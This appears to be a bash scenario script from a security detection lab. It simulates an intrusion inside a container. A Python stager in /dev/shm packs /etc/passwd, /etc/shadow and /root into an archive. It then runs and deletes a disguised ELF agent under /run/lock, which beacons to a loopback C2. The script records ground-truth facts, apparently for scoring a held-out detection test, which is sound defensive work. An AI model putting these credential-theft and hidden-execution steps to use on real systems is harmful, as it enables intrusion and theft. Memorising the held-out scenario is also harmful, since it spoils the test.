#!/bin/bash
# Scenario lock-loader (held-out variant of shm-loader / deleted-exe): a Python stager run
# from the container's /dev/shm (podman's noexec shm: run by the interpreter) packs
# /etc/passwd, /etc/shadow and /root into a gzip'd tar beside itself, drops an ELF agent
# (specimens/memfd/payload.c built with another tag) under /run/lock/.lck-<hex>/, runs it
# and deletes it: the agent runs from a deleted file and beacons to 127.171.x.y.
# Usage: lab/scenarios/lock-loader.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init lock-loader "$@"
lab_use_tools_image

C2="$(lab_addr 171):$(lab_pick 2087 8081 9001)"
STAGEDIR=/dev/shm/.X0-$(lab_hex 3)
STAGER=$STAGEDIR/fc-update
LOOT=$STAGEDIR/fontconfig.cache
AGENT=/run/lock/.lck-$(lab_hex 4)/$(lab_pick dbus-launch udisksd colord)
TAG="lockd/$(lab_rand 1 9).$(lab_rand 0 30)"
ENVVAR=$(lab_pick LOCKD_PEER XDG_SESSION_PEER UPSTREAM_ADDR)
lab_build_agent "$WORK/agent" "$TAG" "$ENVVAR"
base64 -w0 "$WORK/agent" >"$WORK/agent.b64"
lab_template "$SPEC/stage.py" "$WORK/stage.py" "AGENT_B64=$STAGEDIR/.a" "AGENT=$AGENT" "ENVVAR=$ENVVAR" "C2=$C2"

lab_peer_on c2 "$C2" perl "$PEERS/sink.pl" --listen "$C2" --summary "$WORK/peer-c2.json"

lab_run --env APP_ENV=prod --hostname fonts-render -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/agent.b64" "$STAGEDIR/.a"
lab_cp "$WORK/stage.py" "$STAGER" 0755
lab_exec_bg "python3 $STAGER"
lab_wait "agent beaconed" 15 lab_json "$WORK/peer-c2.json" 'd["sessions"] and d["sessions"][0]["bytes_read"] > 0'
gone_file() { ! lab_cexec test -e "$1"; }
lab_wait "agent deleted" 10 gone_file "$AGENT"

lab_finish "$STAGER" "$LOOT" "$AGENT"

lab_kv_json "$WORK/params.json" "c2=$C2" "agent_path=$AGENT" "stager_path=$STAGER" "staged_copy=$LOOT" \
    "agent_tag=$TAG" "agent_sha256=$(sha256sum "$WORK/agent" | cut -d' ' -f1)" \
    "stager_sha256=$(sha256sum "$WORK/stage.py" | cut -d' ' -f1)" "env=$ENVVAR=$C2"
lab_facts --conn "agent=$C2"
lab_truth --description "python stager $STAGER in /dev/shm: tar.gz of passwd, shadow and /root at $LOOT; ELF agent $AGENT run and deleted, beaconing to $C2" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
